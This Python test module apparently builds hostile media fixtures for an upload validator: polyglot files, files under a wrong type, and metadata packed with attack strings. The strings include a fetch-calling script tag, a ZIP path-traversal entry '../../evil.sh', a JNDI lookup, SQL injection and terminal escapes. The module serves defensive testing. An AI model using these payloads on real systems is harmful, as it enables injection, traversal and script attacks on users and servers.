"""Two files in one, files by another's name, and texts that whoever prints them would obey."""

import io
import struct
import zipfile

from tests.media.hostile.boxes import (
    box,
    edited,
    element,
    full,
    in_segment,
    text,
    u16,
    u32,
    with_more,
)
from tests.media.hostile.entry import (
    FONT_DOORS,
    IMAGE_DOORS,
    JPEG,
    MKV,
    MP4,
    PNG,
    TTF,
    VIDEO_DOORS,
    WEBP,
    Ground,
    Hostile,
)

_SCRIPT = b"<script>fetch('//x')</script>"
_CONTROL = "\x1b[2J\r\n\0%s%n%p{}${jndi:ldap://x}'; DROP TABLE jobs;--\u202e\ufffe"


def _zip() -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as file:
        file.writestr("../../evil.sh", "#!/bin/sh\n")
    return into.getvalue()


def _jpeg_and_zip(ground: Ground) -> bytes:
    return ground.good.image("JPEG") + _zip()


def _png_and_html(ground: Ground) -> bytes:
    return ground.good.image("PNG") + b"<html>" + _SCRIPT


def _jpeg_and_html(ground: Ground) -> bytes:
    data = ground.good.image("JPEG")
    said = b"--><html>" + _SCRIPT + b"<!--"
    return data[:2] + b"\xff\xfe" + u16(len(said) + 2) + said + data[2:]


def _webp_and_script(ground: Ground) -> bytes:
    data = ground.good.image("WEBP")
    return data + b"EXIF" + len(_SCRIPT).to_bytes(4, "little") + _SCRIPT


def _gif_and_script(_ground: Ground) -> bytes:
    return b"GIF89a/*" + bytes(10) + b"*/=1;alert(1);"


def shifted(data: bytes, by: int) -> bytes:
    """An MP4 of one track whose pictures lie further back than they did."""

    def moved(table: bytes) -> bytes:
        offsets = struct.unpack(f">{len(table) // 4}I", table)
        return u32(*offsets[:2], *(offset + by for offset in offsets[2:]))

    return edited(data, "moov/trak/mdia/minf/stbl/stco", moved)


def _mp4_and_pdf(ground: Ground) -> bytes:
    pdf = box(b"free", b"%PDF-1.7\n1 0 obj <<>> endobj\n")
    return pdf + shifted(ground.good.clip("mp4 silent"), len(pdf))


def _ftyp_and_html(ground: Ground) -> bytes:
    more = b"<ht><!--"
    data = shifted(ground.good.clip("mp4 silent"), len(more))
    return edited(data, "ftyp", with_more(more)) + _SCRIPT


def _pdf_and_mp4(ground: Ground) -> bytes:
    return b"%PDF-1.7\n" + ground.good.clip("mp4")


def _font_and_zip(ground: Ground) -> bytes:
    return ground.good.font() + _zip()


def _titled(ground: Ground) -> bytes:
    def item(kind: bytes) -> bytes:
        return box(kind, box(b"data", u32(1, 0), _CONTROL.encode() + b"\xff\xfe\x80"))

    ilst = box(
        b"ilst", *(item(kind) for kind in (b"\xa9nam", b"\xa9cmt", b"\xa9too", b"\xa9lyr"))
    )
    handler = full(b"hdlr", bytes(4), b"mdirappl", bytes(9))
    udta = box(b"udta", full(b"meta", handler, ilst))
    return edited(ground.good.clip("mp4 silent"), "moov", with_more(udta))


def _long_title(ground: Ground) -> bytes:
    said = box(b"data", u32(1, 0), b"A" * 2_000_000)
    handler = full(b"hdlr", bytes(4), b"mdirappl", bytes(9))
    udta = box(b"udta", full(b"meta", handler, box(b"ilst", box(b"\xa9nam", said))))
    return edited(ground.good.clip("mp4 silent"), "moov", with_more(udta))


def _tags(ground: Ground) -> bytes:
    def tag(name: str) -> bytes:
        return element(0x7373, element(0x67C8, text(0x45A3, name), text(0x4487, _CONTROL)))

    tags = (tag(f"{_CONTROL}{n}") for n in range(5_000))
    return in_segment(ground.good.clip("mkv"), element(0x1254C367, *tags))


POLYGLOTS = (
    Hostile("JPEG and ZIP", _jpeg_and_zip, JPEG, safe_at=IMAGE_DOORS),
    Hostile("JPEG with a page in its comment", _jpeg_and_html, JPEG, safe_at=IMAGE_DOORS),
    Hostile("PNG and HTML", _png_and_html, PNG, safe_at=IMAGE_DOORS),
    Hostile("WebP and a script", _webp_and_script, WEBP, safe_at=IMAGE_DOORS),
    Hostile("GIF and a script", _gif_and_script, PNG, "type_mismatch"),
    Hostile("PDF and MP4", _pdf_and_mp4, MP4, "type_mismatch"),
    Hostile("MP4 that begins with a PDF", _mp4_and_pdf, MP4, "type_mismatch", VIDEO_DOORS),
    Hostile("MP4 and HTML", _ftyp_and_html, MP4, safe_at=VIDEO_DOORS),
    Hostile("font and ZIP", _font_and_zip, TTF, safe_at=FONT_DOORS),
)
MISNAMED = (
    Hostile(
        "picture called a video",
        lambda ground: ground.good.image("PNG"),
        MP4,
        "type_mismatch",
        IMAGE_DOORS,
    ),
    Hostile(
        "video called a picture",
        lambda ground: ground.good.clip("mp4"),
        PNG,
        "type_mismatch",
        VIDEO_DOORS,
    ),
    Hostile(
        "Matroska called an MP4",
        lambda ground: ground.good.clip("mkv"),
        MP4,
        "type_mismatch",
        VIDEO_DOORS,
    ),
    Hostile(
        "font called a picture",
        lambda ground: ground.good.font(),
        JPEG,
        "type_mismatch",
        FONT_DOORS,
    ),
    Hostile(
        "program called a video", lambda _: b"\x7fELF\2\1\1" + bytes(57), MP4, "type_mismatch"
    ),
    Hostile("archive called a font", lambda _: _zip(), TTF, "type_mismatch"),
    Hostile("gzipped picture", lambda _: b"\x1f\x8b\x08" + bytes(64), PNG, "type_mismatch"),
    Hostile("GIF", lambda ground: ground.good.image("GIF"), PNG, "type_mismatch"),
    Hostile("TIFF", lambda ground: ground.good.image("TIFF"), JPEG, "type_mismatch"),
    Hostile("one byte", lambda _: b"\0", MP4, "type_mismatch"),
)
TEXTS = (
    Hostile("titles that control terminals", _titled, MP4, safe_at=VIDEO_DOORS),
    Hostile("title of two megabytes", _long_title, MP4, safe_at=VIDEO_DOORS),
    Hostile("five thousand tags", _tags, MKV, safe_at=VIDEO_DOORS),
)
